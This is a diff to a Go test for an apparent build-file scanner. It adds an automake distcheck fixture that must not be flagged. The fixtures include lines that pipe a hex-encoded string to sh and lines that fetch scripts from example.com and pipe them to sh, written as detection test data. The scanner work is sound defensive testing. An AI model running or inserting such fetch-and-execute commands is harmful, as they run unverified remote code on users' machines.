@@ -78,6 +78,7 @@ func TestObfuscatedAndDownloads(t *testing.T) {
 		"b/autogen.sh":    "#!/bin/sh\nprintf '" + hex + "' | sh\n",
 		"c/Makefile":      "deps:\n\tcurl -fsSL http://example.com/install.sh | sh\n",
 		"g/Makefile":      "lint:\n\tcurl -sSfL https://raw.githubusercontent.com/golangci/golangci-lint/master/install.sh | sh -s -- v1.55.2\n",
+		"i/Makefile.in":   "distcheck: dist\n\tcase '$(DIST_ARCHIVES)' in \\\n\t*.tar.xz*) \\\n\t  xz -dc $(distdir).tar.xz | $(am__untar) ;;\\\n\tesac\n\teval GZIP= gzip -dc $(distdir).tar.gz | $(am__untar)\n",
 		"h/Makefile":      "lint:\n\t$(warning \"could not find golangci-lint, run: curl -sfL https://install.example.com/golangci-lint.sh | sh\")\n\t@echo 'install with: curl -sfL http://example.com/x.sh | sh'\n",
 		"d/Makefile":      "deps:\n\tcurl -fsSL -o tool.sh https://example.com/tool.sh\n\tsh tool.sh\n",
 		"e/Makefile":      "deps:\n\tcurl -fsSL -o tool.sh https://example.com/tool.sh\n\techo \"0000  tool.sh\" | sha256sum -c\n\tsh tool.sh\n",
@@ -97,6 +98,9 @@ func TestObfuscatedAndDownloads(t *testing.T) {
 	// medium. A hint printed to the user runs nothing.
 	if sevOf(rep, ruleCurlSh, "g/Makefile") != finding.Medium {
 		t.Errorf("https installer: %v", sevOf(rep, ruleCurlSh, "g/Makefile"))
+	}
+	if n := len(analyzertest.Find(rep, "", "i/Makefile.in")); n != 0 {
+		t.Errorf("automake's distcheck rule flagged %d times", n)
 	}
 	if n := len(analyzertest.Find(rep, "", "h/Makefile")); n != 0 {
 		t.Errorf("a printed hint flagged %d times", n)
